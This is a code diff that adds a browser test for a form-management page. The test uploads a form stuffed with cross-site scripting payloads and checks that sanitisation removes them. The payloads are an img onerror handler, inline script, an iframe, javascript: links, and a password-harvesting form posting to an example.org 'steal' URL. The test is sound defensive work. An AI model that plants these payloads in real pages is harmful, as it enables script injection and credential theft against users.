@@ -151,6 +151,57 @@ describe("the form management page in Chromium", () => {
     await page.close();
   });
 
+  // Defence in depth: the pages' CSP already forbids inline script and frames; the client sanitises the
+  // form's HTML (client/safe-html.ts) through the same survey model the form page uses (createSurvey).
+  test("an uploaded form's script, event handlers, frames, forms and javascript: links never reach the page, answers piped in included", async () => {
+    const attack = (where: string) =>
+      `<b id="kept-${where}">ok</b><img id="img-${where}" src="x" onerror="window.__pwned='${where}'">` +
+      `<script>window.__pwned='script-${where}'</script><iframe id="frame-${where}" src="https://example.org"></iframe>` +
+      `<form id="form-${where}" action="https://example.org/steal"><input name="password"></form>` +
+      `<a id="link-${where}" href="javascript:window.__pwned='link-${where}'">link</a>`;
+    const form: FormJson = {
+      title: { default: `Phiếu thử ${attack("title")}` },
+      description: attack("description"),
+      pages: [
+        {
+          elements: [
+            { type: "text", name: "note", title: attack("question"), description: attack("qdesc") },
+            { type: "html", name: "info", html: `${attack("html")}<div id="piped">{note}</div>` },
+          ],
+        },
+      ],
+    } as unknown as FormJson;
+    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    await signIn(page, "admin");
+    await page.goto(`${server.url}/manage/forms`);
+    await page.getByTestId("forms-list").waitFor();
+    await upload(page, "phieu-doc-hai", form);
+    await page.locator('tr[data-form="phieu-doc-hai"]').getByRole("button").click();
+    const versions = page.getByTestId("versions-phieu-doc-hai");
+    await versions.locator("tbody tr").first().getByRole("button", { name: "Xem trước" }).click();
+    const preview = versions.getByTestId("form-preview");
+    await preview.locator("#kept-html").waitFor();
+    await preview.locator('.sd-question[data-name="note"] input').fill(attack("answer"));
+    await preview.locator('.sd-question[data-name="note"] input').blur();
+    await expect.poll(() => preview.locator("#piped").innerText()).toContain("link");
+
+    const inPreview = (selector: string) => preview.locator(selector).count();
+    for (const where of ["html", "answer"]) {
+      expect(await inPreview(`#kept-${where}`), where).toBe(1);
+      expect(await inPreview(`#img-${where}[onerror]`), where).toBe(0);
+      expect(await inPreview(`#frame-${where}, #form-${where}`), where).toBe(0);
+      expect(await inPreview(`#link-${where}[href^="javascript"]`), where).toBe(0);
+    }
+    // Titles and descriptions are plain text: their markup shows as text, no element is made from it.
+    for (const where of ["title", "description", "question", "qdesc"])
+      expect(await inPreview(`#img-${where}, #kept-${where}, #link-${where}`), where).toBe(0);
+    // survey-react-ui's own <form> (no action) holds the survey: only the uploaded one must go.
+    expect(await inPreview('img[onerror], iframe, script, form[action], input[name="password"]')).toBe(0);
+    await preview.locator("#link-html").click();
+    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
+    await page.close();
+  });
+
   test("a school manager sees the forms but no upload", async () => {
     const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
     await signIn(page, "bgh.minhcam");
